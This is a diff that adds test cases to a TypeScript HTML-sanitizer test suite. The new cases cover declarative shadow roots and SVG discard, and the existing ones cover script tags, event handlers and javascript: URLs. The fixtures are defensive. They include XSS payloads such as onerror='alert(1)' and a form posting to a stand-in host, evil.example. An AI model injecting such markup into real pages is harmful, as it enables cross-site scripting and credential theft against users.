@@ -27,6 +27,8 @@ export const KEPT_CASES: Array<[string, string]> = [
 
 /** [rule, markup, what the door leaves]. */
 export const REMOVED_CASES: Array<[string, string, string]> = [
+  ['a declarative shadow root, open or closed, with what it holds', '<div class="a"><template shadowrootmode="open"><a href="ftp://x/" style="position:fixed">x</a></template>a</div><div class="b"><template ShadowRootMode="closed"><form action="https://evil.example/"><input></form></template>b</div>', '<div class="a">a</div><div class="b">b</div>'],
+  ['SVG <discard>, which removes the element it points at', '<svg><discard href="#place_order"></discard><path d="M0 0h1"></path></svg>', '<svg><path d="M0 0h1"></path></svg>'],
   ['script-like elements', '<b>a</b><script>alert(1)</script><iframe src="/x"></iframe><object data="/x"></object><embed src="/x">', '<b>a</b>'],
   ['inline event handlers', '<img src="x" onerror="alert(1)"><b onmouseover="alert(2)">b</b>', '<img src="x"><b>b</b>'],
   ['javascript: URLs', '<a href="javascript:alert(1)">a</a>', '<a>a</a>'],
